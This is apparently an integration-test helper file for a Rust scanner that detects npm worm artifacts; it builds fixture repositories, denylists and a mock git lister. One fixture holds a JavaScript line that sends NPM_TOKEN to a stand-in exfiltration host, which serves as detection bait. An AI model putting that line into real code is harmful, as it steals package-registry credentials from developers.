#![allow(dead_code)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus};
use std::time::{SystemTime, UNIX_EPOCH};

use sha2::{Digest, Sha256};

use shai_hulud_scanner::core::config::{Config, DenylistsConfig};
use shai_hulud_scanner::core::errors::{Result, ShsError};
use shai_hulud_scanner::scanner::events::CancelToken;
use shai_hulud_scanner::scanner::git::{RemoteBranchLister, RemoteHeads};
use shai_hulud_scanner::scanner::walker::Repository;

pub struct CmdResult {
    pub status: ExitStatus,
    pub stdout: String,
    pub stderr: String,
    pub log_path: PathBuf,
}

fn now_millis() -> u128 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis())
}

fn sanitize(name: &str) -> String {
    name.chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect()
}

fn resolve_bin_path() -> PathBuf {
    if let Ok(path) = std::env::var("CARGO_BIN_EXE_shs") {
        return PathBuf::from(path);
    }

    let exe_name = if cfg!(windows) { "shs.exe" } else { "shs" };
    let fallback = std::env::current_exe()
        .ok()
        .and_then(|p| p.parent().map(PathBuf::from))
        .and_then(|deps| deps.parent().map(PathBuf::from))
        .map(|debug_dir| debug_dir.join(exe_name));

    match fallback {
        Some(path) if path.exists() => path,
        _ => panic!("unable to resolve shs binary path for integration test"),
    }
}

pub fn run_cli_case(case_name: &str, args: &[&str]) -> CmdResult {
    let root = std::env::temp_dir().join("shs-test-logs");
    fs::create_dir_all(&root).expect("create temp test log dir");

    let log_path = root.join(format!("{}-{}.log", sanitize(case_name), now_millis()));
    let bin_path = resolve_bin_path();

    let output = Command::new(&bin_path)
        .args(args)
        .env("RUST_BACKTRACE", "1")
        .env_remove("SHS_OUTPUT_FORMAT")
        .output()
        .expect("execute shs command");

    let stdout = String::from_utf8_lossy(&output.stdout).to_string();
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();

    let mut log_content = String::new();
    log_content.push_str(&format!("case={case_name}\n"));
    log_content.push_str(&format!("bin={}\n", bin_path.display()));
    log_content.push_str(&format!("args={args:?}\n"));
    log_content.push_str(&format!("status={}\n", output.status));
    log_content.push_str("----- stdout -----\n");
    log_content.push_str(&stdout);
    log_content.push('\n');
    log_content.push_str("----- stderr -----\n");
    log_content.push_str(&stderr);
    log_content.push('\n');
    fs::write(&log_path, log_content).expect("write test log");

    CmdResult {
        status: output.status,
        stdout,
        stderr,
        log_path,
    }
}

// ──────────────────── fixtures ────────────────────

pub const LEFT_PAD_MANIFEST: &str =
    r#"{"name":"infected","dependencies":{"left-pad":"1.3.0","react":"18.2.0"}}"#;
pub const CLEAN_MANIFEST: &str = r#"{"name":"clean","dependencies":{"react":"18.2.0"}}"#;
pub const MALICIOUS_JS: &[u8] = b"fetch('https://exfil.example/' + process.env.NPM_TOKEN);\n";

pub fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .fold(String::with_capacity(64), |mut acc, b| {
            acc.push_str(&format!("{b:02x}"));
            acc
        })
}

pub fn write_file(path: &Path, contents: impl AsRef<[u8]>) {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).expect("create fixture parent");
    }
    fs::write(path, contents).expect("write fixture file");
}

/// Create `<parent>/<name>/.git` and return the repository root.
pub fn make_repo(parent: &Path, name: &str) -> PathBuf {
    let root = parent.join(name);
    fs::create_dir_all(root.join(".git")).expect("create control dir");
    root
}

/// One clean repository and one carrying a denylisted JS file plus a
/// manifest pinning `left-pad@1.3.0`.
pub fn two_repo_volume(volume: &Path) -> (PathBuf, PathBuf) {
    let clean = make_repo(volume, "projects/clean-app");
    write_file(&clean.join("package.json"), CLEAN_MANIFEST);
    write_file(&clean.join("src/index.js"), "console.log('hello');\n");

    let infected = make_repo(volume, "work/infected-app");
    write_file(&infected.join("package.json"), LEFT_PAD_MANIFEST);
    write_file(&infected.join("dist/bundle.js"), MALICIOUS_JS);
    (clean, infected)
}

/// Write the three lists into `dir`, denylisting [`MALICIOUS_JS`] and `left-pad@1.3.0`.
pub fn write_denylists(dir: &Path) -> DenylistsConfig {
    let config = DenylistsConfig {
        hashes: dir.join("hashes.txt"),
        filenames: dir.join("filenames.txt"),
        packages: dir.join("packages.txt"),
    };
    write_file(
        &config.hashes,
        format!(
            "# sha256 of known worm payloads\n{},bundle.js payload\n",
            sha256_hex(MALICIOUS_JS)
        ),
    );
    write_file(
        &config.filenames,
        "shai-hulud-workflow.yml,malicious workflow\n",
    );
    write_file(&config.packages, "left-pad:1.3.0\n@ctrl/tinycolor:4.1.1\n");
    config
}

/// Scan config rooted at `volume`, using the lists written by [`write_denylists`].
pub fn scan_config(volume: &Path, lists: DenylistsConfig) -> Config {
    let mut config = Config::default();
    config.denylists = lists;
    config.scanner.parallelism = 2;
    config.scanner.excluded_paths.clear();
    config.scanner.roots = vec![volume.to_path_buf()];
    config
}

// ──────────────────── remote listers ────────────────────

/// Answers every repository with fixed branches, except those whose root
/// ends with one of `unreachable`, which fail like a dead remote.
pub struct MockLister {
    pub branches: Vec<String>,
    pub unreachable: Vec<String>,
}

impl MockLister {
    pub fn clean() -> Self {
        Self {
            branches: vec!["main".to_string()],
            unreachable: Vec::new(),
        }
    }
}

impl RemoteBranchLister for MockLister {
    fn ensure_available(&self) -> Result<String> {
        Ok("mock-git 1.0".to_string())
    }

    fn head_branches(&self, repo: &Repository, _cancel: &CancelToken) -> Result<RemoteHeads> {
        if self
            .unreachable
            .iter()
            .any(|suffix| repo.root_path.ends_with(suffix))
        {
            return Err(ShsError::CommandFailed {
                command: "git ls-remote --heads origin".to_string(),
                exit_code: 128,
                stderr: "fatal: unable to access remote".to_string(),
            });
        }
        Ok(RemoteHeads::Branches(self.branches.clone()))
    }
}

/// Whether a usable `git` binary is on PATH.
pub fn git_available() -> bool {
    Command::new("git")
        .arg("--version")
        .output()
        .is_ok_and(|out| out.status.success())
}
